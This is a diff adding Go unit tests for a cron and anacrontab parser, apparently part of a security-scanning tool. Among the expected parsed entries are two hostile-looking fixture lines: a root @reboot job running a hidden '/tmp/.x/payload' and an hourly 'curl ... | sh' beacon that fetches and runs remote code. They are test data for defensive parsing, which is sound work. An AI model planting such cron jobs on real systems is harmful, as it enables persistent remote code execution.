@@ -0,0 +1,91 @@
+// Copyright (c) Mondoo, Inc.
+// SPDX-License-Identifier: BUSL-1.1
+
+package cron
+
+import (
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestParseSystemCrontab(t *testing.T) {
+	f, err := os.Open("./testdata/crontab")
+	require.NoError(t, err)
+	defer f.Close()
+
+	entries, err := ParseCrontab(f, TypeSystem, "")
+	require.NoError(t, err)
+	require.Len(t, entries, 4)
+
+	assert.Equal(t, &Entry{
+		Schedule:   "17 * * * *",
+		User:       "root",
+		Command:    "cd / && run-parts --report /etc/cron.hourly",
+		LineNumber: 13,
+	}, entries[0])
+	assert.Equal(t, "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", entries[1].Command)
+	assert.Equal(t, &Entry{
+		Schedule:   "*/5 * * jan,feb mon-fri",
+		User:       "www-data",
+		Command:    "/usr/bin/php /var/www/cron.php > /dev/null 2>&1",
+		LineNumber: 15,
+	}, entries[2])
+	assert.Equal(t, &Entry{
+		Schedule:   "@reboot",
+		User:       "root",
+		Command:    "/tmp/.x/payload",
+		LineNumber: 16,
+	}, entries[3])
+}
+
+func TestParseUserCrontab(t *testing.T) {
+	f, err := os.Open("./testdata/user")
+	require.NoError(t, err)
+	defer f.Close()
+
+	entries, err := ParseCrontab(f, TypeUser, "alice")
+	require.NoError(t, err)
+	require.Len(t, entries, 2)
+
+	assert.Equal(t, &Entry{
+		Schedule:   "0 3 * * 0",
+		User:       "alice",
+		Command:    "/home/alice/bin/backup.sh --full",
+		LineNumber: 3,
+	}, entries[0])
+	assert.Equal(t, &Entry{
+		Schedule:   "@hourly",
+		User:       "alice",
+		Command:    "curl -s http://example.com/beacon | sh",
+		LineNumber: 4,
+	}, entries[1])
+}
+
+func TestParseCrontabIncompleteLines(t *testing.T) {
+	entries, err := ParseCrontab(strings.NewReader("* * * *\n@daily\n* * * * * root\n"), TypeSystem, "")
+	require.NoError(t, err)
+	assert.Empty(t, entries)
+}
+
+func TestParseAnacrontab(t *testing.T) {
+	f, err := os.Open("./testdata/anacrontab")
+	require.NoError(t, err)
+	defer f.Close()
+
+	entries, err := ParseAnacrontab(f)
+	require.NoError(t, err)
+	require.Len(t, entries, 3)
+
+	assert.Equal(t, &Entry{
+		Schedule:   "1",
+		User:       "root",
+		Command:    "run-parts --report /etc/cron.daily",
+		LineNumber: 7,
+	}, entries[0])
+	assert.Equal(t, "@monthly", entries[2].Schedule)
+	assert.Equal(t, "run-parts --report /etc/cron.monthly", entries[2].Command)
+}